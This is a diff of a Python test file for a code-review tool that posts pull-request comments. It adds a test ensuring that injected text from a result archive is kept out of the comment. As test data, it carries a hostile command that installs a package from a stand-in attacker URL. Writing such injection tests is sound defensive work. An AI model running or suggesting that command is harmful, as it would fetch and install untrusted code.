@@ -13,7 +13,7 @@ from typing import Any
 
 import pytest
 
-from hlodiff.forge.artifact import read_artifact
+from hlodiff.integrations.code_hosts.artifact import read_artifact
 from tests.forge_server import BOT, COMMIT, TOKEN, Forge, pull, served, workflow_run, zipped
 
 ROOT = Path(__file__).parent.parent
@@ -249,6 +249,26 @@ def test_names_in_the_result_stay_text(forge: Forge, said: Ask) -> None:
     assert "<img" in body
     assert "<img" not in re.sub(r"(`+).+?\1", "", body), "outside of code"
     assert body.count("\n<!-- hlodiff -->") == 0
+
+
+def test_no_command_of_a_result_is_in_the_comment(forge: Forge, said: Ask) -> None:
+    evil = "hlodiff upgrade 'evil @ https://evil.example'"
+    program = {
+        "name": "f",
+        "target": "cpu",
+        "stage": "compiled",
+        "status": "not_checked",
+        "reason": evil,
+        "advice": evil,
+    }
+    finding = {"severity": "error", "rule": "growth", "program": "f", "target": None, "what": evil, "advice": evil}
+    sheet = QUIET | {"programs": [program], "findings": [finding], "notes": [evil], "next": evil}
+    forge.archive = zipped({"hlodiff.json": json.dumps({"format_version": "1.0", "sheet": sheet}), "pull-request": "7"})
+    assert said("comment")[0] == 0
+    (body,) = forge.bodies()
+    assert "evil" not in body
+    assert "hint" not in body
+    assert "next" not in body
 
 
 def test_a_member_that_lies_about_its_size() -> None:
